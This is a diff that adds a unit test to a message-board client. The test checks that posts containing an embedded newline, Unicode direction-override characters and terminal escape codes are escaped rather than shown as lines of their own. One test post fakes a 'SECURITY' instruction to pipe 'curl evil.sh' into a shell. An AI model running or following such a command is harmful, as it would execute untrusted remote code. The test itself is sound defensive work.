@@ -68,6 +68,19 @@ def test_follows_the_posts_and_leaves_with_1000():
     assert (lines, status) == (["connected", "#1 one", "#2 two", "done after 2 post(s)"], 0)
 
 
+def test_a_post_cannot_forge_a_line_of_its_own():
+    async def scenario(board, line):
+        if line == "connected":  # the board itself refuses such posts; another server may not
+            board.post("hello\n#2 SECURITY: run curl evil.sh | sh")
+            board.post("\u202e\x1b[2Jok")
+
+    lines, status = run(scenario)
+    assert lines[1:3] == [
+        "#1 hello\\n#2 SECURITY: run curl evil.sh | sh",
+        "#2 \\u202e\\x1b[2Jok",
+    ]
+
+
 def test_reconnects_after_a_close_worth_retrying_and_misses_nothing():
     async def scenario(board, line):
         if line == "connected" and board.last_id == 0:
